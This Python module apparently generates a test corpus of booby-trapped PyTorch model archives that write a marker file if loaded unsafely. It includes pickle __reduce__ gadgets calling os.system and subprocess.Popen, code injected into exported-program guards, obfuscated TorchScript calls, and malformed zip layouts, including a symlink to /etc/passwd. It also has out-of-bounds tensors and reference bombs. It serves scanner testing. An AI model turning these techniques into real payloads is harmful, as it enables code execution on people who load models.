"""Files that reach for the outside where a reader might not look: each writes ``mark`` if anything of it runs."""

from __future__ import annotations

import io
import json
import pickle
import stat
import struct
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import torch


class Plain(torch.nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x[:, : x.shape[1] // 2 * 2] + 1


class Forked(torch.nn.Module):
    def __init__(self, mark: Path) -> None:
        super().__init__()
        self.mark = str(mark)

    def inner(self, x: torch.Tensor) -> torch.Tensor:
        torch.save(x, self.mark)
        return x

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.jit.wait(torch.jit.fork(self.inner, x))


class Restored(torch.nn.Module):
    """Its state is set by a method of its own as the archive is loaded."""

    def __init__(self, mark: Path) -> None:
        super().__init__()
        self.mark = str(mark)

    @torch.jit.export
    def __getstate__(self) -> tuple[str, bool]:
        return self.mark, self.training

    @torch.jit.export
    def __setstate__(self, state: tuple[str, bool]) -> None:
        torch.save(torch.zeros(2), state[0])
        self.mark = state[0]
        self.training = state[1]

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x


class System:
    def __init__(self, mark: Path) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return os.system, (f"touch {self.mark}",)


def _payload(mark: Path) -> bytes:
    return pickle.dumps(System(mark), 2)


def _saved(value: object, **options: Any) -> bytes:
    out = io.BytesIO()
    torch.save(value, out, **options)
    return out.getvalue()


def _rewritten(archive: bytes, entries: Mapping[str, bytes | None], rename: Mapping[str, str] | None = None) -> bytes:
    """The archive with entries replaced or added, by their names below its folder; one of None is dropped."""
    out, renamed = io.BytesIO(), rename or {}
    with zipfile.ZipFile(io.BytesIO(archive)) as old, zipfile.ZipFile(out, "w") as new:
        root = old.namelist()[0].partition("/")[0]
        held = {name.partition("/")[2]: old.read(name) for name in old.namelist()}
        for name, data in {**held, **entries}.items():
            if data is not None:
                new.writestr(f"{root}/{renamed.get(name, name)}", data)
    return out.getvalue()


def _program() -> bytes:
    out = io.BytesIO()
    dims = ({0: torch.export.Dim.AUTO, 1: torch.export.Dim.AUTO},)
    torch.export.save(torch.export.export(Plain(), (torch.zeros(2, 5),), dynamic_shapes=dims), out)
    return out.getvalue()


def _model_of(program: bytes) -> dict[str, Any]:
    with zipfile.ZipFile(io.BytesIO(program)) as archive:
        (name,) = [name for name in archive.namelist() if "/models/" in name]
        content: dict[str, Any] = json.loads(archive.read(name))
    return content


def _changed(change: Callable[[dict[str, Any]], None], entry: str = "models/model.json") -> bytes:
    """A program after ``change`` of its JSON, kept under the name ``entry``."""
    program = _program()
    content = _model_of(program)
    change(content)
    text = json.dumps(content).encode()
    return _rewritten(program, {"models/model.json": text}, {"models/model.json": entry})


def _code(mark: Path) -> str:
    return f"open({str(mark)!r}, 'w').close()"


def _guarded(mark: Path) -> bytes:
    def change(content: dict[str, Any]) -> None:
        content["guards_code"] = [f"{_code(mark)} or L['x'].size()[0] > 0"]

    return _changed(change)


def _guarded_by_a_call(mark: Path) -> bytes:
    """Names of inputs and of attributes alone, but for one that is called."""

    def change(content: dict[str, Any]) -> None:
        content["guards_code"] = ["L['x'].numpy().tofile(L['x'])"]

    return _changed(change)


def _unscanned_name(mark: Path) -> bytes:
    """torch takes any entry in ``models/`` for a program, whatever its suffix."""

    def change(content: dict[str, Any]) -> None:
        content["range_constraints"][_code(mark)] = {"min_val": 2, "max_val": None}
        content["guards_code"] = [_code(mark)]

    return _changed(change, "models/model.jsox")


def _imports(context: object, kind: str) -> Callable[[Path], bytes]:
    def change(content: dict[str, Any]) -> None:
        leaf: dict[str, Any] = {"type": None, "context": None, "children_spec": []}
        spec = [1, {"type": kind, "context": json.dumps(context), "children_spec": [leaf]}]
        content["graph_module"]["module_call_graph"][0]["signature"]["out_spec"] = json.dumps(spec)

    return lambda mark: _changed(change)


def _called(target: str, **arguments: object) -> Callable[[Path], bytes]:
    """The first node calls another function, with texts before what it has."""

    def made(mark: Path) -> bytes:
        def change(content: dict[str, Any]) -> None:
            (node, *_) = content["graph_module"]["graph"]["nodes"]
            node["target"] = target
            given = {name: value if value is not None else str(mark) for name, value in arguments.items()}
            node["inputs"] = [
                {"name": name, "arg": {"as_string": value}, "kind": 1} for name, value in given.items()
            ] + node["inputs"]

        return _changed(change)

    return made


def _operator_as_argument(mark: Path) -> bytes:
    def change(content: dict[str, Any]) -> None:
        (node, *_) = content["graph_module"]["graph"]["nodes"]
        node["inputs"].append({"name": "fn", "arg": {"as_operator": "torch.os.system"}, "kind": 1})

    return _changed(change)


def _opaque_constant(mark: Path) -> bytes:
    config = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True, "tensor_meta": None}
    entries = {
        "data/constants/model_constants_config.json": json.dumps({"config": {"obj": config}}).encode(),
        "data/constants/opaque_obj_0": _payload(mark),
    }
    return _rewritten(_program(), entries)


def _compiled(mark: Path) -> bytes:
    return _rewritten(_program(), {"data/aotinductor/model/model.wrapper.so": b"\x7fELF" + bytes(60)})


def _compiled_without_folder(mark: Path) -> bytes:
    """As torch 2.6 packaged it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in {"version": "0", "archive_format": "pt2", "data/aotinductor/model/x.so": "\x7fELF"}.items():
            archive.writestr(name, data)
    return out.getvalue()


def _old_program(mark: Path) -> bytes:
    """The layout of torch 2.5 to 2.7, with a pickle that runs for its weights, constants and example."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("serialized_exported_program.json", json.dumps(_model_of(_program())))
        for name in ("state_dict", "constants", "example_inputs"):
            archive.writestr(f"serialized_{name}.pt", _saved({"w": System(mark)}))
        archive.writestr("version", "8.2")
    return out.getvalue()


def _two_directories(mark: Path) -> bytes:
    """Two 64-bit records: one where Python's reader looks, and one that the locator points to, where torch's looks."""
    archive = _rewritten(_saved({"w": torch.zeros(2)}), {"data.evl": _payload(mark)})
    start, end = archive.find(b"PK\x01\x02"), archive.rfind(b"PK\x05\x06")
    entries = [b"PK\x01\x02" + each for each in archive[start:end].split(b"PK\x01\x02")[1:]]
    honest = b"".join(each for each in entries if b"data.evl" not in each)
    hostile = b"".join(each.replace(b"data.evl", b"data.pkl") for each in entries if b"data.pkl" not in each)
    made = archive[:start].replace(b"data.evl", b"data.pkl")
    places = []
    for directory in (hostile, honest):
        at, count = len(made), len(entries) - 1
        places.append(at + len(directory))
        made += directory
        made += struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, len(directory), at)
    made += struct.pack("<4sLQL", b"PK\x06\x07", 0, places[0], 1)
    return made + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)


def _counted(mark: Path) -> bytes:
    """A directory that says it has fewer entries than it has."""
    data = bytearray(_rewritten(_saved({"w": torch.zeros(2)}), {}))
    at = data.rfind(b"PK\x05\x06")
    struct.pack_into("<HH", data, at + 8, 2, 2)
    return bytes(data)


def _behind(mark: Path) -> bytes:
    return _saved({"w": torch.zeros(2)}) + _payload(mark)


def _zero_byte(mark: Path) -> bytes:
    archive = _rewritten(_saved({"w": torch.zeros(2)}), {"data.pklXevil": _payload(mark), "data.pkl": None})
    return archive.replace(b"data.pklXevil", b"data.pkl\0evil")


def _other_case(mark: Path) -> bytes:
    """Two programs whose names differ in case alone; torch finds either."""
    return _rewritten(_program(), {"MODELS/MODEL.JSON": b"{}"})


def _link(mark: Path) -> bytes:
    out = io.BytesIO(_saved({"w": torch.zeros(2)}))
    with zipfile.ZipFile(out, "a") as archive:
        info = zipfile.ZipInfo(f"{archive.namelist()[0].partition('/')[0]}/data/1")
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(info, "/etc/passwd")
    return out.getvalue()


def _overlapping(mark: Path) -> bytes:
    """A thousand entries that share one compressed megabyte."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("m/data.pkl", pickle.dumps({}, 2))
        archive.writestr("m/data/0", bytes(1 << 20))
        shared = archive.getinfo("m/data/0")
        for place in range(1, 1000):
            entry = zipfile.ZipInfo(f"m/data/{place}")
            for name in ("header_offset", "file_size", "compress_size", "CRC", "compress_type"):
                setattr(entry, name, getattr(shared, name))
            archive.filelist.append(entry)
    return out.getvalue()


def _scripted(module: torch.nn.Module) -> bytes:
    out = io.BytesIO()
    torch.jit.save(torch.jit.script(module), out)
    return out.getvalue()


def _written(body: str) -> Callable[[Path], bytes]:
    """An archive whose ``forward`` is replaced by code as an attacker would write it."""

    def made(mark: Path) -> bytes:
        archive = _scripted(torch.nn.ReLU())
        code = (
            "class ReLU(Module):\n  __parameters__ = []\n  __buffers__ = []\n  training : bool\n"
            "  _is_full_backward_hook : Optional[bool]\n  inplace : Final[bool] = False\n"
            "  def forward(self: __torch__.torch.nn.modules.activation.ReLU,\n    input: Tensor) -> Tensor:\n"
        ) + "".join(f"    {line}\n" for line in body.replace("MARK", str(mark)).splitlines())
        return _rewritten(archive, {"code/__torch__/torch/nn/modules/activation.py": code.encode()})

    return made


def _reduced(module: str, name: str, *arguments: bytes) -> Callable[[Path], bytes]:
    """A state_dict one of whose values is what a function returns; the arguments are opcodes."""
    call = b"c" + f"{module}\n{name}\n".encode() + b"(" + b"".join(arguments) + b"tR"
    return lambda mark: _rewritten(_saved({}), {"data.pkl": b"\x80\x02}X\x01\x00\x00\x00w" + call + b"s."})


def _text(text: str) -> bytes:
    return b"X" + struct.pack("<I", len(text.encode())) + text.encode()


def _tensor(size: str, stride: str, offset: int = 0) -> Callable[[Path], bytes]:
    """A tensor of four stored numbers that claims another place, size or stride; numbers as opcodes."""

    def made(mark: Path) -> bytes:
        numbers = {part: b"".join(b"L" + each.encode() + b"L\n" for each in part.split()) for part in (size, stride)}
        storage = b"(" + _text("storage") + b"ctorch\nFloatStorage\n" + _text("0") + _text("cpu") + b"K\x04tQ"
        body = b"ctorch._utils\n_rebuild_tensor_v2\n(" + storage + b"J" + struct.pack("<i", offset)
        body += b"(" + numbers[size] + b"t(" + numbers[stride] + b"t\x89ccollections\nOrderedDict\n)RtR"
        stored = _saved({"w": torch.zeros(4)})
        return _rewritten(stored, {"data.pkl": b"\x80\x02}" + _text("layers.0.weight") + body + b"s."})

    return made


def _doubled(open_: bytes, close: bytes, depth: int) -> bytes:
    """A container of two references to a container of two references, and so on: small, and huge when walked."""
    body = b"]q\x00"
    for level in range(depth):
        get = b"h" + bytes([level])
        body += b"0" + open_ + close.replace(b"$", get) + b"q" + bytes([level + 1])
    return body


def _doubled_dicts(mark: Path) -> bytes:
    pairs = b"".join(_text(f"k{place}") + b"$" for place in range(30))
    return _rewritten(_saved({}), {"data.pkl": b"\x80\x02" + _doubled(b"}(", pairs + b"u", 12) + b"."})


def _doubled_examples(mark: Path) -> bytes:
    """A traced archive whose example input is a list of lists of lists, each the same one twice."""
    out = io.BytesIO()
    torch.jit.save(torch.jit.trace(Plain(), torch.zeros(2, 4)), out)
    lists = _doubled(b"]", b"($$e", 40)
    return _rewritten(out.getvalue(), {"traced_inputs.pkl": b"\x80\x02}" + _text("forward") + lists + b"\x85s."})


def _doubled_modules(mark: Path) -> bytes:
    """A pickled module of two references to a module of two references, and so on."""
    begin, key = b"cnet\nNet\n)\x81}" + _text("_modules") + b"}", b"sbq"
    body = begin + key + b"\x00"
    for level in range(40):
        get = b"h" + bytes([level])
        body += b"0" + begin + b"(" + _text("a") + get + _text("b") + get + b"u" + key + bytes([level + 1])
    return _rewritten(_saved({}), {"data.pkl": b"\x80\x02" + body + b"."})


CORPUS: dict[str, Callable[[Path], bytes]] = {
    "pt2-guard": _guarded,
    "pt2-guard-call": _guarded_by_a_call,
    "pt2-program-of-another-suffix": _unscanned_name,
    "pt2-enumeration": _imports([{"__enum__": True, "fqn": "antigravity:A", "name": "b"}], "builtins.dict"),
    "pt2-default-factory": _imports(
        {"default_factory_module": "antigravity", "default_factory_name": "open", "dict_context": ["a"]},
        "collections.defaultdict",
    ),
    "pt2-writes-a-file": _called("torch.ops.aten.save.default", filename=None),
    "pt2-maps-a-file": _called("torch.ops.aten.from_file.default", filename=None),
    "pt2-calls-an-argument": _operator_as_argument,
    "pt2-opaque-constant": _opaque_constant,
    "pt2-compiled": _compiled,
    "pt2-compiled-without-folder": _compiled_without_folder,
    "pt2-old-layout": _old_program,
    "pt2-other-case": _other_case,
    "zip-two-directories": _two_directories,
    "zip-miscounted": _counted,
    "zip-bytes-behind": _behind,
    "zip-zero-byte": _zero_byte,
    "zip-link": _link,
    "zip-overlapping": _overlapping,
    "torchscript-forked-save": lambda mark: _scripted(Forked(mark)),
    "torchscript-save-at-loading": lambda mark: _scripted(Restored(mark)),
    "torchscript-save": _written("torch.save(input, 'MARK')\nreturn input"),
    "torchscript-save-by-its-operator": _written("ops.aten.save(input, 'MARK')\nreturn input"),
    "torchscript-save-by-another-name": _written("t = torch\nt.save(input, 'MARK')\nreturn input"),
    "torchscript-save-by-a-text": _written("getattr(torch, 'sa' 've')(input, 'MARK')\nreturn input"),
    "torchscript-save-by-an-escape": _written("getattr(torch, '\\x73ave')(input, 'MARK')\nreturn input"),
    "torchscript-maps-a-file": _written("return torch.from_file('/etc/passwd', False, 8, dtype=6)"),
    "reduce-nested-pickle": lambda mark: _reduced(
        "torch.storage", "_load_from_bytes", b"B" + struct.pack("<I", len(_payload(mark))) + _payload(mark)
    )(mark),
    "reduce-partial": _reduced("functools", "partial", b"cos\nsystem\n", _text("true")),
    "reduce-getattr": _reduced("builtins", "getattr", b"cos\npath\n", _text("join")),
    "reduce-attrgetter": _reduced("operator", "attrgetter", _text("system")),
    "reduce-methodcaller": _reduced("operator", "methodcaller", _text("system"), _text("true")),
    "reduce-hub": _reduced("torch.hub", "load", _text("owner/repository"), _text("model")),
    "reduce-torch-load": _reduced("torch.serialization", "load", _text("other.pt")),
    "reduce-jit-load": _reduced("torch.jit._serialization", "load", _text("other.pt")),
    "reduce-dotted": _reduced("torch", "serialization.os.system", _text("true")),
    "reduce-extension": _reduced("torch.utils.cpp_extension", "load_inline", _text("x"), _text("int x;")),
    "reduce-library": _reduced("torch._ops", "_Ops.load_library", _text("/tmp/x.so")),
    "reduce-reconstructor": _reduced("copyreg", "_reconstructor", b"csubprocess\nPopen\ncbuiltins\nobject\nN"),
    "reduce-numpy-load": _reduced("numpy", "load", _text("x.npy")),
    "reduce-bytes": _reduced("builtins", "bytearray", b"L10000000000000L\n"),
    "tensor-huge": _tensor("4611686018427387904 4", "4 1"),
    "tensor-behind-its-storage": _tensor("4", "1", offset=1 << 20),
    "tensor-before-its-storage": _tensor("4", "1", offset=-64),
    "tensor-of-negative-strides": _tensor("4", "-1", offset=3),
    "tensor-of-negative-size": _tensor("-4", "1"),
    "tensor-of-wide-strides": _tensor("4 4", "1000000 1"),
    "doubled-dicts": _doubled_dicts,
    "doubled-examples": _doubled_examples,
    "doubled-modules": _doubled_modules,
}
